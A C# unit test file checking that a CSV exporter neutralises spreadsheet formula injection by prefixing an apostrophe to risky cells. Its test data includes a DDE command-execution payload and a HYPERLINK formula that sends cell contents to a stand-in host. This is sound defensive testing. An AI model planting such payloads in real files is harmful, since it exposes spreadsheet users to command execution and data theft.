using System.Buffers;
using System.Text;
using RealRecon.Adapters.Api.Exports;

namespace RealRecon.Tests.Lists;

public sealed class CsvFormatTests
{
    private static readonly string[] Beginnings = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =", "  +", "\u00A0-", "\u2003@", "\u200B=", "\uFEFF=", " \t", "\u3000\uFF1D"];

    private static readonly string[] Ends = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?q=\"&A1,\"click, \"\"here\"\"\")"];

    /// <summary>Sixty that a spreadsheet might run.</summary>
    public static TheoryData<string> Hostile => [.. Beginnings.SelectMany(beginning => Ends.Select(end => beginning + end))];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Cell_WhenASpreadsheetMightRunIt_BeginsWithAnApostropheAndIsOtherwiseWhole(string text)
    {
        var records = CsvFile.Read(Written(text));

        Assert.Equal(["'" + text, "-5000", "'" + text], records[1]);
    }

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("a-b=c@d+e")]
    [InlineData("comma, \"quote\" and 'apostrophe'")]
    [InlineData("two\r\nlines; and\ta tab")]
    [InlineData(" blanks ")]
    [InlineData("日本語 Überweisung 🏦")]
    [InlineData("#more")]
    public void Cell_WhenItIsOnlyText_ComesBackAsItWas(string text) => Assert.Equal([text, "-5000", text], CsvFile.Read(Written(text))[1]);

    [Fact]
    public void File_WhenCut_SaysSoInARecordOfTheSameWidth()
    {
        var format = new CsvFormat<string>(Columns);
        var to = new ArrayBufferWriter<byte>();
        format.Cut("AQ-_x", 7, to);

        Assert.Equal([["#more", "AQ-_x", "7"]], CsvFile.Read(Encoding.UTF8.GetString(to.WrittenSpan)));
    }

    private static Column<string>[] Columns => [Column<string>.Text("first", row => row), Column<string>.Number("difference", _ => -5000), Column<string>.Text("last", row => row)];

    private static string Written(string text)
    {
        var format = new CsvFormat<string>(Columns);
        var to = new ArrayBufferWriter<byte>();
        format.Begin(to);
        format.Write(text, to);
        Assert.Equal(Encoding.UTF8.Preamble, to.WrittenSpan[..3]);
        var file = Encoding.UTF8.GetString(to.WrittenSpan[3..]);
        Assert.StartsWith("first,difference,last\r\n", file, StringComparison.Ordinal);
        return file;
    }
}
